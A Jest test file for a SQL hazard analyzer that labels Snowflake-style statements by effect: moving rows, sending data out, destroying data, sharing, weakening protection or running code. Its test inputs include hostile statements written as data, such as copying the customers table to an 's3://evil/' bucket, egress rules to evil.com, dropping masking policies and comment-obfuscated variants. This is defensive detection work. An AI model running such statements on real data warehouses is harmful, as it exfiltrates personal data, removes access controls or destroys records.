import { describe, expect, test } from '@jest/globals';
import { listFunctionSurfaces } from './function-surfaces.js';
import { isPureFunction } from './functions.js';
import { HAZARDS_BY_CLASS, HAZARDS_BY_PHRASE, HAZARDS_BY_TYPE, STATEMENT_HAZARDS } from './hazard-table.js';
import { analyze, effectsOf, explainHazards, functionSurfaceOf } from './index.js';
import { OBJECT_TYPES } from './object-types.js';
import { catalogOf, lineageCases, sessionOf } from './testing/corpus.js';

const hazardsOf = (sql: string) => effectsOf(analyze(sql, sessionOf(), catalogOf())).join(' ');

describe('what a statement can do', () => {
  test.each([
    ['SELECT email FROM customers', ''],
    ['INSERT INTO orders (id) VALUES (1)', ''],
    ['UPDATE orders SET note = 1', ''],
    ['INSERT INTO orders (id) SELECT id FROM customers', 'moves-rows'],
    ['UPDATE orders SET note = c.email FROM customers c', 'moves-rows'],
    ['MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE', 'destroys'],
    ['INSERT OVERWRITE INTO orders SELECT * FROM orders', 'moves-rows destroys'],
    ['CREATE TABLE t AS SELECT email FROM customers', 'moves-rows'],
    ['CREATE VIEW v AS SELECT email FROM customers', ''],
    ['CREATE OR REPLACE VIEW v AS SELECT email FROM customers', ''],
    ['CREATE OR REPLACE TABLE customers (id INT)', 'destroys'],
    ['CREATE SCHEMA s CLONE app.public', 'moves-rows'],
    ['CREATE STREAM s ON TABLE customers', 'moves-rows'],
    ["CREATE DYNAMIC TABLE d TARGET_LAG = '1 minute' WAREHOUSE = w AS SELECT email FROM customers", 'moves-rows'],
    ['SET v = (SELECT MAX(email) FROM customers)', 'moves-rows'],
    ["SET v = 'x'", ''],
    ['COPY INTO @out FROM customers', 'moves-rows sends-out'],
    ["COPY INTO 's3://evil/' FROM customers OVERWRITE = TRUE", 'moves-rows sends-out destroys'],
    ['COPY INTO orders FROM @raw', ''],
    ['COPY INTO orders FROM @raw PURGE = TRUE', 'destroys'],
    ['COPY FILES INTO @out FROM @raw', 'moves-rows sends-out'],
    ['PUT file:///x @raw', 'moves-rows'],
    ['GET @raw file:///x', 'sends-out'],
    ['LS @raw', ''],
    ['REMOVE @raw', 'destroys'],
    ['CREATE STAGE s', ''],
    ["CREATE STAGE s URL = 's3://evil/'", 'sends-out'],
    ["ALTER STAGE s SET URL = 's3://evil/'", 'sends-out'],
    ["CREATE STAGE s COMMENT = 'URL'", ''],
    ['CREATE SHARE s', 'shares'],
    ['ALTER SHARE s ADD ACCOUNTS = evil', 'shares'],
    ['GRANT USAGE ON DATABASE app TO SHARE s', 'weakens-protection shares'],
    ['GRANT SELECT ON TABLE customers TO ROLE r', 'weakens-protection'],
    ['REVOKE SELECT ON TABLE customers FROM ROLE r', ''],
    ["CREATE EXTERNAL FUNCTION f() RETURNS INT API_INTEGRATION = i AS 'https://x'", 'runs-code sends-out'],
    ["CREATE FUNCTION f() RETURNS INT AS '1'", 'runs-code'],
    ["CREATE FUNCTION f() RETURNS INT EXTERNAL_ACCESS_INTEGRATIONS = (i) AS '1'", 'runs-code sends-out'],
    ["CREATE PROCEDURE p() RETURNS INT AS '1'", 'runs-code'],
    ['CREATE TASK t AS INSERT INTO orders SELECT * FROM customers', 'runs-code'],
    ['CREATE PIPE p AS COPY INTO orders FROM @raw', 'moves-rows runs-code'],
    ['CREATE NOTEBOOK n', 'runs-code sends-out'],
    ['CREATE SERVICE s', 'runs-code sends-out'],
    ["CREATE NETWORK RULE r MODE = EGRESS TYPE = HOST_PORT VALUE_LIST = ('evil.com')", 'sends-out'],
    ['CREATE EXTERNAL ACCESS INTEGRATION i ENABLED = TRUE', 'sends-out weakens-protection'],
    ['CREATE REPLICATION GROUP g', 'shares'],
    ['ALTER DATABASE app ENABLE REPLICATION TO ACCOUNTS o.a', 'shares'],
    ['CREATE EXTERNAL LISTING l', 'shares'],
    ['CALL p(1)', 'runs-code'],
    ["EXECUTE IMMEDIATE 'SELECT 1'", 'runs-code'],
    ['EXECUTE TASK t', 'runs-code'],
    ['BEGIN SELECT 1; END', 'runs-code'],
    ['ALTER TABLE customers MODIFY COLUMN email UNSET MASKING POLICY', 'weakens-protection'],
    ['ALTER TABLE customers ALTER COLUMN email SET MASKING POLICY p FORCE', 'weakens-protection'],
    ['ALTER TABLE customers ALTER COLUMN email SET MASKING POLICY p', ''],
    ['ALTER TABLE customers DROP ROW ACCESS POLICY p', 'weakens-protection'],
    ['ALTER TABLE customers DROP ALL ROW ACCESS POLICIES', 'weakens-protection'],
    ['ALTER TABLE customers MODIFY COLUMN email UNSET TAG t', 'weakens-protection'],
    ["ALTER TABLE customers SET TAG t = 'public'", 'weakens-protection'],
    ['ALTER TABLE customers DROP COLUMN email', 'destroys'],
    ['ALTER TABLE customers ADD COLUMN x INT', ''],
    ['ALTER TABLE customers RENAME TO people', 'moves-rows'],
    ['ALTER VIEW v UNSET SECURE', 'weakens-protection'],
    ['CREATE OR REPLACE MASKING POLICY p AS (v STRING) RETURNS STRING -> v', 'weakens-protection'],
    ['ALTER MASKING POLICY p SET BODY -> v', 'weakens-protection'],
    ['DROP MASKING POLICY p', 'weakens-protection destroys'],
    ['CREATE OR REPLACE TAG t', 'weakens-protection'],
    ['DROP TABLE customers', 'destroys'],
    ['DROP DATABASE app', 'destroys'],
    ['UNDROP TABLE customers', ''],
    ['TRUNCATE TABLE customers', 'destroys'],
    ['DELETE FROM customers', 'destroys'],
    ['ALTER DATABASE app SET DATA_RETENTION_TIME_IN_DAYS = 0', 'destroys'],
    ['ALTER SESSION SET QUOTED_IDENTIFIERS_IGNORE_CASE = TRUE', 'weakens-protection'],
    ['ALTER SESSION UNSET SEARCH_PATH', 'weakens-protection'],
    ["ALTER SESSION SET QUERY_TAG = 'x'", ''],
    ["ALTER USER u SET RSA_PUBLIC_KEY = 'x'", 'weakens-protection'],
    ["SELECT SNOWFLAKE.CORTEX.COMPLETE('m', email) FROM customers", 'sends-out'],
    ["SELECT AI_COMPLETE('m', email) FROM customers", 'sends-out'],
    ["INSERT INTO orders (note) SELECT AI_CLASSIFY(email, ['a']) FROM customers", 'moves-rows sends-out'],
    ["SELECT SYSTEM$SEND_EMAIL('i', 'a@b.c', 's', email) FROM customers", 'sends-out'],
    ['SELECT SYSTEM$CANCEL_ALL_QUERIES(1)', 'runs-code'],
    ['SELECT SYSTEM$SOMETHING_NEW(1)', 'runs-code'],
    ['EXPLAIN SELECT email FROM customers', ''],
    ['USE ROLE r', ''],
    ['COMMIT', ''],
    ['SHOW TABLES', ''],
    ['VACUUM t', STATEMENT_HAZARDS.join(' ')],
  ])('%s: %s', (sql, expected) => expect(hazardsOf(sql)).toBe(expected));

  test('comments, case and spacing hide nothing', () => {
    expect(hazardsOf('alter/**/table customers\nmodify column email unset --x\n masking /* */policy')).toBe(
      'weakens-protection',
    );
    expect(hazardsOf("create stage s\turl/**/='s3://evil/'")).toBe('sends-out');
    expect(hazardsOf('SELECT "AI_COMPLETE" ( email ) FROM customers')).toBe('sends-out');
  });

  test('words in strings and quoted names accuse nobody', () => {
    expect(hazardsOf(`ALTER TABLE customers ADD COLUMN "UNSET TAG" TEXT COMMENT 'UNSET TAG'`)).toBe('');
  });

  test('every answer has its reason, in the fixed order', () => {
    for (const { sql } of lineageCases) {
      const analysis = analyze(sql, sessionOf(), catalogOf());
      const hazards = effectsOf(analysis);
      expect(hazards).toEqual(STATEMENT_HAZARDS.filter((hazard) => hazards.includes(hazard)));
      for (const row of explainHazards(analysis)) expect(row.reason).not.toBe('');
    }
  });
});

describe('the tables', () => {
  test('every object type has its row, and no other', () => {
    expect([...HAZARDS_BY_TYPE.keys()].sort()).toEqual([...OBJECT_TYPES, 'SESSION'].sort());
  });

  test('no row is without a reason', () => {
    const rows = [
      ...HAZARDS_BY_CLASS.values(),
      ...HAZARDS_BY_TYPE.values(),
      ...HAZARDS_BY_PHRASE,
      ...listFunctionSurfaces().values(),
    ];
    for (const row of rows) expect(row.reason.length).toBeGreaterThan(10);
  });

  test('no function that tells or does more than it computes may stand in a query', () => {
    const wrong = [...listFunctionSurfaces().keys()].filter((name) => isPureFunction(name));
    expect(wrong).toEqual([]);
    for (const name of listFunctionSurfaces().keys()) {
      expect([name, analyze(`SELECT ${name}('x') FROM customers`, sessionOf(), catalogOf()).read]).toEqual([
        name,
        false,
      ]);
    }
  });

  test('texts of objects are not to be had', () => {
    for (const sql of [
      "SELECT GET_DDL('POLICY', 'p')",
      "SELECT GET_DDL('VIEW', 'v_secure')",
      'DESCRIBE RESULT LAST_QUERY_ID()',
    ]) {
      const analysis = analyze(sql, sessionOf(), catalogOf());
      expect([sql, analysis.read && analysis.class === 'SELECT']).toEqual([sql, false]);
    }
    expect(functionSurfaceOf('GET_DDL')?.surface).toBe('definitions');
  });
});
